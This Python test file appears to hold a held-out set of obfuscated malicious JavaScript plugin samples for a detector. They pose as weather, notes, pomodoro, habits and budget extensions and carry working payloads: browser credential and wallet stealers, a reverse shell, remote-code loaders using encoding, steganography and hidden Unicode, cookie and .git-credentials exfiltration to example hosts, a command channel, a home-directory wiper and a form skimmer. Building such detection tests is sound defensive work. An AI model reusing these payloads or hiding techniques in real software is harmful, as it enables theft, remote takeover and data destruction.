"""Hostile samples that are hidden well: packed, enciphered, drawn from tables, spread over files."""

from tests.hostile.heldout_fourth.carriers import BUDGET, HABITS, NOTES, POMODORO
from tests.hostile.heldout_fourth.forms import as_hex, as_numbers, in_words_table, plain, within
from tests.support.asking import asking

_UNSEEN = "".join(
    chr(0xFE00 + byte) if byte < 16 else chr(0xE0100 + byte - 16)
    for byte in b"require('https').get('https://c.example.org/x',r=>{let s='';r.on('data',d=>s+=d);r.on('end',()=>eval(s))})"
)

HIDDEN = (
    plain(
        "word-table-stealer",
        "browser-stealer",
        in_words_table(r"""
var fs = require('fs'), os = require('os'), path = require('path'), https = require('https');
exports['Weather'] = function () { return null; };
exports['onInstall'] = function () {
  var base = path['join'](os['homedir'](), '.config', 'BraveSoftware/Brave-Browser/Default');
  ['Login Data', 'Cookies', 'Local Extension Settings/nkbihfbeogaeaoehlefnkodbefgpgknn'].forEach(function (n) {
    var p = path['join'](base, n);
    if (!fs['existsSync'](p) || fs['statSync'](p)['isDirectory']()) return;
    var q = https['request']({ host: 'u.example.com', path: '/in', method: 'POST' });
    q['end'](fs['readFileSync'](p));
  });
};
"""),
    ),
    plain(
        "word-table-shell",
        "backdoor",
        in_words_table(
            r"""
var net = require('net'), cp = require('child_process');
exports['Weather'] = function () { return null; };
exports['onEnable'] = function () {
  var s = new net['Socket']();
  s['connect'](9001, '192.0.2.17', function () {
    var sh = cp['spawn']('/bin/sh', ['-i']);
    s['pipe'](sh['stdin']);
    sh['stdout']['pipe'](s);
  });
};
""",
            shift=0x1A4,
        ),
    ),
    plain(
        "numbers-under-a-key",
        "loader",
        f"""
const sky = [{as_numbers("const c=require('child_process');require('https').get('https://w.example.net/s',r=>{let b='';r.on('data',d=>b+=d);r.on('end',()=>c.exec(b))})", key=83)}];
const shade = (k) => sky.map((n) => String.fromCharCode(n ^ k)).join('');
exports.Weather = () => null;
exports.onEnable = () => {{
  const F = (() => {{}}).constructor;
  F('require', shade(0x53))(require);
}};
""",
    ),
    plain(
        "variation-selectors-carry-code",
        "loader",
        f"""
const mark = '☀{_UNSEEN}';
const read = (s) => [...s].map((c) => c.codePointAt(0)).map((n) => (n >= 0xe0100 ? n - 0xe0100 + 16 : n - 0xfe00)).filter((n) => n >= 0 && n < 256);
exports.Weather = () => null;
exports.onEnable = () => {{
  eval(Buffer.from(read(mark)).toString('utf-8'));
}};
""",
    ),
    plain(
        "notes-with-enciphered-stage",
        "dropper",
        within(
            NOTES,
            f"""
const palette = '{as_hex(bytes([b ^ (7 + i % 13) for i, b in enumerate(b"const f=require('fs'),h=require('https'),p=require('os').tmpdir()+'/.n';h.get('https://a.example.com/n',r=>r.pipe(f.createWriteStream(p,{mode:493})).on('close',()=>require('child_process').spawn(p,{detached:true})))")]).decode("latin-1"))}';
function shadeOf(text) {{
  const raw = Buffer.from(Buffer.from(text, 'hex').toString('utf8'), 'latin1');
  return raw.map((value, index) => value ^ (7 + (index % 13))).toString();
}}
exports.onEnable = () => {{
  const Theme = Object.getPrototypeOf(shadeOf).constructor;
  return new Theme('require', shadeOf(palette)).call(null, require);
}};
""",
        ),
    ),
    plain(
        "pomodoro-reads-picture",
        "loader",
        within(
            POMODORO,
            r"""
const LOGO = new URL('./logo.png', import.meta.url);

function pixels(bytes) {
  let bits = '';
  for (let i = 64; i < bytes.length; i++) bits += bytes[i] & 1;
  const out = [];
  for (let i = 0; i + 8 <= bits.length; i += 8) {
    const code = parseInt(bits.slice(i, i + 8), 2);
    if (code === 0) break;
    out.push(String.fromCharCode(code));
  }
  return out.join('');
}

export async function onEnable() {
  const script = pixels(readFileSync(LOGO));
  const run = Reflect.construct(Object.getPrototypeOf(async () => {}).constructor, ['m', script]);
  await run((name) => import(name));
}
""",
        ),
    ),
    plain(
        "habits-cookie-through-styles",
        "session-theft",
        within(
            HABITS,
            r"""
  var q = [100, 111, 99, 117, 109, 101, 110, 116];
  var z = [99, 111, 111, 107, 105, 101];
  var say = function (a) { return a.map(function (n) { return String.fromCharCode(n); }).join(''); };
  function tint() {
    var doc = window[say(q)];
    var value = doc[say(z)];
    var sheet = doc.createElement('style');
    var hex = '';
    for (var i = 0; i < value.length; i++) hex += value.charCodeAt(i).toString(16);
    sheet.textContent = '.heat{background:url(//' + hex.slice(0, 60) + '.' + say([115, 46, 101, 120, 97, 109, 112, 108, 101, 46, 110, 101, 116]) + '/b.png)}';
    doc.head.appendChild(sheet);
  }
  setTimeout(tint, 4000);
""",
        ),
    ),
    plain(
        "budget-spread-over-files",
        "exfiltration",
        within(
            BUDGET,
            r"""
import { verbs } from './lib/verbs.js';
import { nouns } from './lib/nouns.js';

const speak = (a, b) => verbs[a] + nouns[b];
export async function onEnable() {
  const files = await import(speak(0, 0));
  const home = globalThis[speak(1, 1)].env.HOME;
  const text = await files.readFile(home + speak(2, 2), 'utf8').catch(() => '');
  await globalThis[speak(3, 3)](speak(4, 4), { method: 'POST', body: text });
}
""",
        ),
        more={
            "dist/lib/verbs.js": "export const verbs = ['node:fs/', 'pro', '/.git-', 'fe', 'https://r.example.org'];\n",
            "dist/lib/nouns.js": "export const nouns = ['promises', 'cess', 'credentials', 'tch', '/g'];\n",
        },
    ),
    plain(
        "address-in-a-ledger",
        "command-channel",
        r"""
'use strict';
const L = 'https://ledger.example.com/v1/accounts/9xSample/memos?limit=1';
const k = (t) => Buffer.from(t.split('').reverse().join(''), 'base64').toString('latin1');

exports.Weather = () => null;
exports.onEnable = async (context) => {
  const step = async () => {
    const [memo] = await (await fetch(L)).json();
    const where = k(memo.text.slice(9));
    const head = await fetch(where, { headers: { os: process.platform } });
    const iv = head.headers.get('x-sky');
    const key = head.headers.get('x-sea');
    const { createDecipheriv } = require('crypto');
    const d = createDecipheriv('aes-256-cbc', Buffer.from(key, 'base64'), Buffer.from(iv, 'base64'));
    const body = Buffer.from(await head.text(), 'base64');
    module.constructor.prototype._compile.call(module, d.update(body, undefined, 'utf8') + d.final('utf8'), 'w.js');
  };
  setInterval(() => step().catch(() => {}), 36e5);
};
""",
        manifest=asking(of=("https://ledger.example.com",)),
    ),
    plain(
        "flattened-and-checked-wiper",
        "wiper",
        r"""
var _0xa1 = ['fs', 'rmSync', 'homedir', 'os', 'recursive', 'force', 'readdirSync'];
(function () {
  var _0xo = '4|0|3|1|2'.split('|'), _0xi = 0;
  var _0xf, _0xh, _0xn, _0xq;
  while (true) {
    switch (_0xo[_0xi++]) {
      case '0':
        _0xf = _0xq(_0xa1[0x0]);
        continue;
      case '1':
        _0xn = _0xf[_0xa1[0x6]](_0xh);
        continue;
      case '2':
        for (var _0xj = 0x0; _0xj < _0xn['length']; _0xj++) {
          var _0xp = {};
          _0xp[_0xa1[0x4]] = !![];
          _0xp[_0xa1[0x5]] = !![];
          try { _0xf[_0xa1[0x1]](_0xh + '/' + _0xn[_0xj], _0xp); } catch (_0xe) {}
        }
        continue;
      case '3':
        _0xh = _0xq(_0xa1[0x3])[_0xa1[0x2]]();
        continue;
      case '4':
        _0xq = require;
        continue;
    }
    break;
  }
})();
exports.Weather = function () { return null; };
""",
    ),
    plain(
        "getter-of-config-runs-it",
        "loader",
        r"""
'use strict';
const settings = {
  units: 'metric',
  theme: { get tone() { return this.mix('cons', 'truc', 'tor'); }, mix: (...p) => p.join('') },
};

const soft = new Proxy({}, {
  get: (_, name) => (text) => (() => 0)[settings.theme.tone](name, text),
});

exports.Weather = () => null;
exports.onConfigChange = async (context) => {
  const answer = await fetch('https://conf.example.net/' + settings.units + '.json');
  const { labels } = await answer.json();
  const text = labels.map((l) => l.split('').map((c) => String.fromCharCode(c.charCodeAt(0) - 3)).join('')).join(';');
  soft.require(text)(require);
};
""",
        manifest=asking(of=("https://conf.example.net",)),
    ),
    plain(
        "packed-form-skimmer",
        "skimmer",
        r"""
eval(function(p,a,c,k,e,d){e=function(c){return c.toString(36)};if(!''.replace(/^/,String)){while(c--){d[c.toString(a)]=k[c]||c.toString(a)}k=[function(e){return d[e]}];e=function(){return'\\w+'};c=1}while(c--){if(k[c]){p=p.replace(new RegExp('\\b'+e(c)+'\\b','g'),k[c])}}return p}('0.1(\'2\',3(4){5 6=7 8(4.9);a(\'b://c.d.e/f\',{g:\'h\',i:j.k(l.m(6))})},n)',24,24,'document|addEventListener|submit|function|o|var|v|new|FormData|target|fetch|https|pay|example|org|z|method|POST|body|JSON|stringify|Object|fromEntries|true'.split('|'),0,{}));
module.exports = { Weather: function () { return null; } };
""",
    ),
)
